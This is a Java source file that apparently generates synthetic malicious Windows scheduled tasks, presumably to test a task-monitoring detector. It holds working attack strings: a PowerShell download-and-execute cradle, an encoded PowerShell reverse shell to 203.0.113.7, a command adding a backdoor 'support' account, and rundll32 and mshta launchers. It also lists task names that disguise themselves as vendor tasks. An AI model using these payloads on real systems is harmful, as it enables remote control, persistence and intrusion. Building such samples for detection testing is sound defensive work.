package dev.taskwatch.local.telemetry;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.random.RandomGenerator;

/** Tasks as attackers make them. Nothing here does anything: the addresses are reserved for documentation. */
final class Payloads {

    private static final List<String> NAMES = List.of(
            "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager",
            "\\Microsoft\\Windows\\Shell\\IndexerSync",
            "\\GoogleUpdateTaskMachineQC",
            "\\AdobeFlashSync",
            "\\Updates\\Health Report");

    private final RandomGenerator random;

    Payloads(RandomGenerator random) {
        this.random = random;
    }

    String name() {
        return any(NAMES) + "-" + Integer.toHexString(random.nextInt(0x1000, 0x10000));
    }

    Payload payload() {
        return any(List.of(
                encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/stage')"),
                encodedPowerShell(longScript()),
                new Payload(
                        "C:\\Windows\\System32\\cmd.exe",
                        "/c net user support P@ssw0rd! /add > C:\\Windows\\Temp\\o.txt"),
                new Payload("C:\\Windows\\System32\\rundll32.exe", "C:\\ProgramData\\msupd.dll,Start"),
                new Payload("C:\\Windows\\System32\\mshta.exe", "http://203.0.113.19/invoice.hta")));
    }

    /** So long that the base64 of its Actions value is above 1,024 letters: it is in the source, but not indexed. */
    private static String longScript() {
        return "$c = New-Object Net.Sockets.TCPClient('203.0.113.7', 443); $s = $c.GetStream(); "
                + "[byte[]]$b = 0..65535 | % { 0 }; while (($i = $s.Read($b, 0, $b.Length)) -ne 0) "
                + "{ $o = IEX ([Text.Encoding]::ASCII.GetString($b, 0, $i)) 2>&1 | Out-String; "
                + "$r = [Text.Encoding]::ASCII.GetBytes($o); $s.Write($r, 0, $r.Length) }";
    }

    private static Payload encodedPowerShell(String script) {
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        return new Payload(
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "-NoProfile -WindowStyle Hidden -EncodedCommand " + encoded);
    }

    private <T> T any(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    record Payload(String command, String arguments) {}
}
